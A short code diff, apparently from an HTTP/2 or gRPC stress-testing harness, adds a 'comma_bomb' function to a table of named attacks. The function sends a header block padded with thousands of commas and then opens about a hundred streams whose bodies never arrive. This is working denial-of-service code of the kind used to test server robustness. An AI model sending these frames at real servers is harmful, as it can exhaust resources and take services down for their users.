@@ -105,6 +105,15 @@ def many_fields(peer):
     streams(peer, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 20)
 
 
+def comma_bomb(peer):
+    """Thousands of values that commas join, in call after call whose bodies never come."""
+    fill = b"\x40\x05a-bin\x7f\xbd\x1d" + b"," * 3900
+    peer.send(opening() + frame(HEADERS, END_HEADERS, 1, head() + fill))
+    block = head() + b"\xbe" * 4
+    peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(3, 200, 2)))
+    peer.wait_for_end()
+
+
 def table_size_flood(peer):
     """Changes of the size of the header table, in every block and in SETTINGS."""
     peer.send(opening())
@@ -324,6 +333,7 @@ ATTACKS = {
     "empty_continuation_flood": empty_continuation_flood,
     "hpack_bomb": hpack_bomb,
     "many_fields": many_fields,
+    "comma_bomb": comma_bomb,
     "table_size_flood": table_size_flood,
     **FLOODS,
     "calls_after_goaway": calls_after_goaway,
